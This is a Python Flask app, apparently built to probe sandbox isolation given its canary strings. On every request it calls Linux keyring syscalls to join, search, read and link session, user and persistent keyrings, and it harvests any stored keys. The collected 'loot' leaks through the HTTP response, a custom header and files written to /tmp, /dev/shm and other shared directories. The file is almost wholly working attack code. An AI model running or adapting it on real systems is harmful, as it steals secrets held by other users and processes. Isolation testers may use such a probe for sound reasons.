"""Keys that outlive everybody."""

import contextlib
from pathlib import Path
import ctypes
import platform

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, REQUEST_KEY, KEYCTL = (248, 249, 250) if platform.machine() == "x86_64" else (217, 218, 219)
THREAD, PROCESS, SESSION, USER, USER_SESSION = -1, -2, -3, -4, -5
GET_ID, JOIN, SEARCH, READ, LINK, DESCRIBE, REVOKE, PERSISTENT = 0, 1, 10, 11, 8, 6, 3, 22


def attack():
    found = []
    buffer = ctypes.create_string_buffer(4096)
    libc.syscall(KEYCTL, JOIN, b"_ses")
    for ring in (SESSION, USER, USER_SESSION, PROCESS, THREAD):
        number = libc.syscall(ADD_KEY, b"user", b"note", b"CANARY_SECRET_PREFIX", 10, ring)
        if number >= 0:
            found.append(f"added {number} to {ring}")
        for name in (b"note", b"diary", b"secret"):
            number = libc.syscall(KEYCTL, SEARCH, ring, b"user", name, 0)
            if number >= 0 and libc.syscall(KEYCTL, READ, number, buffer, 4096) >= 0:
                found.append(buffer.value.decode("latin-1"))
        number = libc.syscall(KEYCTL, GET_ID, ring, 1)
        if number >= 0:
            size = libc.syscall(KEYCTL, READ, number, buffer, 4096)
            found.append(f"ring {number} of {size}")
            libc.syscall(KEYCTL, DESCRIBE, number, buffer, 4096)
            found.append(buffer.value.decode("latin-1"))
            libc.syscall(KEYCTL, LINK, number, PROCESS)
    for user in (-1, 0, 1000):
        if libc.syscall(KEYCTL, PERSISTENT, user, PROCESS) >= 0:
            found.append(f"persistent ring of {user}")
    if libc.syscall(REQUEST_KEY, b"user", b"diary", b"call out", SESSION) >= 0:
        found.append("requested")
    return found


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
